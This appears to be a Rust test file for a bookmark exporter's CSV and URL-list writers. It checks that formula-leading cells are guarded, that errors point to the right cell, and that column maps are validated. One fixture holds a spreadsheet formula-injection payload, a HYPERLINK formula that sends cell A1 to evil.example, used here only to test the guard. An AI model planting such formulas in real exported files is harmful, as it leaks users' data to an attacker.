//! What a hostile or careless file must not do: a formula in any cell a
//! spreadsheet would run, a problem placed away from its cell, a
//! `--csv-map` that silently means something else, a title that writes an
//! extra bookmark.

use markport_lists::{csv, urls};
use markport_model::{
    diff, Attribute, Bookmark, DateValue, Document, ErrorKind, Field, Folder, ReadOptions,
    WriteOptions,
};

fn is_formula(cell: &str) -> bool {
    matches!(
        cell.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

/// Every cell of `out` as a spreadsheet gets it (the `csv` crate, not
/// markport's reader).
fn cells(out: &[u8]) -> Vec<Vec<String>> {
    ::csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(out)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn hostile() -> Document {
    let mut doc = Document::new();
    let top = doc.push(None, Folder::titled("=folder"));
    let mut b =
        Bookmark::new("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")").with_title("+title");
    b.desc = Some("@desc".into());
    b.tags = vec!["-tag".into()];
    b.added = Some(DateValue::Raw("=1+1".into()));
    b.details_mut().extra = vec![
        Attribute::new("=name", "plain"),
        Attribute::new("remark", "\tcell"),
    ];
    doc.push(Some(top), b);
    let mut quiet = Bookmark::new("https://quiet.example/").with_title("quiet");
    quiet.details_mut().extra = vec![Attribute::new("remark", "fine")];
    doc.push(Some(top), quiet);
    doc
}

#[test]
fn every_cell_written_is_guarded_header_names_too() {
    let doc = hostile();
    let mut out = Vec::new();
    let report = csv::write(&doc, &WriteOptions::default(), &mut out).unwrap();
    let table = cells(&out);
    for row in &table {
        for cell in row {
            assert!(!is_formula(cell), "{cell:?} runs in a spreadsheet");
        }
    }
    assert_eq!(table[0][8], "'=name");
    assert_eq!(
        table[1][0],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(table[1][5], "'=1+1");
    assert_eq!(table[1][9], "'\tcell");
    // markport reads every guarded cell back as it was: nothing lost.
    assert!(report.is_empty(), "{report}");
    let back = csv::read(&out, &ReadOptions::default()).unwrap().document;
    assert!(diff(&doc, &back).is_empty());
}

#[test]
fn the_report_names_each_guarded_value_where_the_file_goes() {
    let doc = hostile();
    let mut out = Vec::new();
    let report = csv::write(&doc, &WriteOptions::default(), &mut out).unwrap();
    let mut told: Vec<(Field, usize, Vec<String>)> = report
        .destination
        .iter()
        .map(|e| (e.field, e.count, e.paths.clone()))
        .collect();
    told.sort();
    let b = "=folder/+title".to_string();
    let mut want = vec![
        (Field::BookmarkHref, 1, vec![b.clone()]),
        (Field::BookmarkTitle, 1, vec![b.clone()]),
        (Field::BookmarkDesc, 1, vec![b.clone()]),
        (Field::BookmarkTags, 1, vec![b.clone()]),
        (Field::BookmarkAdded, 1, vec![b.clone()]),
        // The one bookmark with a guarded name or value; the quiet one's
        // remark is not guarded and its column's name is not.
        (Field::BookmarkExtra, 1, vec![b.clone()]),
        (Field::FolderTitle, 1, vec!["=folder".to_string()]),
    ];
    want.sort();
    assert_eq!(told, want);
    assert!(report.destination[0].reason.contains("spreadsheet"));
}

#[test]
fn a_value_starting_with_an_apostrophe_and_a_formula_loses_it_and_says_so() {
    let mut doc = Document::new();
    let mut b = Bookmark::new("'=x");
    b.details_mut().extra = vec![Attribute::new("remark", "'+y")];
    doc.push(None, b);
    let mut out = Vec::new();
    let report = csv::write(&doc, &WriteOptions::default(), &mut out).unwrap();
    let lost: Vec<Field> = report.fields().into_iter().collect();
    assert_eq!(
        lost,
        [Field::BookmarkHref, Field::BookmarkExtra],
        "{report}"
    );
    let why = &report.losses[0].reason;
    assert!(why.contains("loses that '"), "{why}");
}

#[test]
fn a_cell_problem_is_placed_at_the_cell() {
    let file = "url,title,created,private\n\
                https://a/,A,1700000000,yes\n\
                https://b/,B,last week,perhaps\n\
                ,\"C\",,\n";
    let read = csv::read(file.as_bytes(), &ReadOptions::default()).unwrap();
    let at: Vec<(u32, u32)> = read
        .diagnostics
        .iter()
        .map(|d| d.location.map(|l| (l.line, l.column)).unwrap())
        .collect();
    // The date at its cell, the flag at its cell, the missing link at the
    // (empty) link cell.
    assert_eq!(at, [(3, 14), (3, 24), (4, 1)], "{:?}", read.diagnostics);
}

#[test]
fn an_unclosed_quote_is_placed_at_its_quote_on_any_row() {
    // The shape: check said `3:1 ... 2 fields`, convert `3:12`.
    let file = "url,title\nhttps://a/,A\nhttps://b/,\"B\nhttps://c/,C\n";
    let e = csv::read(file.as_bytes(), &ReadOptions::default()).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Syntax);
    let at = e.location.unwrap();
    assert_eq!((at.line, at.column), (3, 12), "{e}");
    // The same place from the public scanner a checker uses.
    let (text, _) = csv::scan::decode(file.as_bytes());
    let mut s = csv::scan::Scanner::new(&text, csv::scan::delimiter(&text));
    let err = s.find_map(Result::err).unwrap();
    let index = markport_model::LineIndex::new(text.as_bytes());
    let l = index.locate(err.offset);
    assert_eq!((l.line, l.column), (3, 12));
}

#[test]
fn one_column_may_be_two_fields_when_the_map_says_so() {
    let mut opts = ReadOptions::default();
    opts.csv.map = vec![
        ("url".into(), "Name".into()),
        ("title".into(), "Name".into()),
    ];
    let read = csv::read(b"Name,Other\nhttps://e/,x\n", &opts).unwrap();
    let b = read
        .document
        .node(read.document.children(None)[0])
        .as_bookmark()
        .unwrap()
        .clone();
    assert_eq!(b.href, "https://e/");
    assert_eq!(b.title.as_deref(), Some("https://e/"));
    assert_eq!(b.details().extra[0].name, "Other");
}

#[test]
fn a_field_mapped_twice_is_refused_naming_it() {
    let mut opts = ReadOptions::default();
    opts.csv.map = vec![("url".into(), "A".into()), ("url".into(), "B".into())];
    let e = csv::read(b"A,B\nhttps://a/,https://b/\n", &opts).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Invalid);
    assert!(
        e.message
            .contains("maps the field url twice (url=A and url=B)"),
        "{e}"
    );
}

#[test]
fn a_link_column_mapped_to_another_field_only_says_how_to_keep_it() {
    let mut opts = ReadOptions::default();
    opts.csv.map = vec![("title".into(), "Link".into())];
    let e = csv::read(b"Link,Other\nhttps://a/,x\n", &opts).unwrap_err();
    assert!(e.message.contains("add url=Link"), "{e}");
}

#[test]
fn a_title_with_a_line_break_stays_one_bookmark_and_the_report_names_it() {
    let mut doc = Document::new();
    let f = doc.push(None, Folder::titled("F"));
    doc.push(
        Some(f),
        Bookmark::new("https://a/").with_title("two\nlines"),
    );
    doc.push(
        Some(f),
        Bookmark::new("https://b/\r\nhttps://c/").with_title("B"),
    );
    let mut out = Vec::new();
    let report = urls::write(&doc, &WriteOptions::default(), &mut out).unwrap();
    assert_eq!(out, b"https://a/ two lines\nhttps://b/  https://c/ B\n");
    let back = urls::read(&out, &ReadOptions::default()).unwrap().document;
    assert_eq!(back.census().bookmarks, 2);
    let title = report
        .losses
        .iter()
        .find(|l| l.field == Field::BookmarkTitle)
        .unwrap();
    assert_eq!(title.count, 2);
    assert_eq!(title.paths, ["F/two\nlines", "F/B"]);
    assert!(title.reason.contains("line break"));
    assert!(!report.fields().contains(&Field::Bookmark), "{report}");
}
